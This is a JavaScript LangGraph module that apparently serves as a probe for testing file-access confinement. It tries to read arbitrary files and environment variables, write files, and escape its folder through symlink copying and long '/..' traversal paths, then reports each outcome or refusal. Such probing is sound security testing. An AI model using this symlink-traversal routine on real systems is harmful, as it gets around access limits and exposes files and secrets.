// Code of a source that tries to reach files beyond its own, and returns the results.
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { tmpdir } from "node:os";
import { Annotation, END, START, StateGraph } from "@langchain/langgraph";

/** Returns the paths of all links below a folder. */
function linksBelow(folder, found = []) {
  let entries = [];
  try {
    entries = readdirSync(folder, { withFileTypes: true });
  } catch {
    return found;
  }
  for (const entry of entries) {
    const path = join(folder, entry.name);
    if (entry.isSymbolicLink()) found.push(path);
    else if (entry.isDirectory()) linksBelow(path, found);
  }
  return found;
}

/**
 * Generates paths up from a link's target, with steps that Node resolves against the link's own path, also in circles.
 */
function* waysFrom(link) {
  const parts = link.split("/");
  for (let up = 1; up <= 12; up++) yield link + "/..".repeat(up);
  for (let back = 1; back <= 4; back++) {
    for (let tail = 1; tail <= 4; tail++) {
      const round = `${"/..".repeat(back)}/${parts.slice(-tail).join("/")}`;
      for (let rounds = 1; rounds <= 5; rounds++) {
        for (let up = 1; up <= 10; up++) yield link + round.repeat(rounds) + "/..".repeat(up);
      }
    }
  }
}

const tries = {
  read: (path) => readFileSync(path, "utf8"),
  variables: (...names) => JSON.stringify(names.map((name) => process.env[name] ?? null)),
  print: (...texts) => texts.forEach((text) => console.log(text)) ?? "printed",
  preloaded: () => String(globalThis.preloaded === true),
  // Tries every file of this name that links lead to, through existing links and through links that it can make.
  escape(name, ...more) {
    const own = dirname(import.meta.dirname);
    const links = [import.meta.dirname, ...more].flatMap((folder) => linksBelow(folder));
    const scratch = join(tmpdir(), "1/2/3/4/5/6/7/8");
    mkdirSync(scratch, { recursive: true });
    for (const [index, folder] of [...new Set(links.map((link) => dirname(link)))].entries()) {
      for (const verbatimSymlinks of [false, true]) {
        try {
          cpSync(folder, join(scratch, `${index}${verbatimSymlinks}`), { recursive: true, verbatimSymlinks });
        } catch {
          // This way failed.
        }
      }
    }
    const made = linksBelow(scratch);
    const findings = new Set(made.map((path) => `made the link ${path}`));
    for (const link of [...links, ...made]) {
      for (const way of waysFrom(link)) {
        try {
          if (readFileSync(`${way}/${name}`).length > 0) findings.add(`read ${name} by ${link} of ${own}`);
        } catch {
          // This way failed.
        }
      }
    }
    return JSON.stringify([...findings]);
  },
  write: (path) => writeFileSync(path, "mine") ?? String(existsSync(path)),
};

const State = Annotation.Root({ ask: Annotation(), answers: Annotation() });
export const probe = new StateGraph(State)
  .addNode("try", ({ ask }) => ({
    answers: ask.map(([what, ...how]) => {
      try {
        return tries[what](...how);
      } catch (error) {
        return `refused: ${error.code ?? error.message}`;
      }
    }),
  }))
  .addEdge(START, "try")
  .addEdge("try", END)
  .compile();
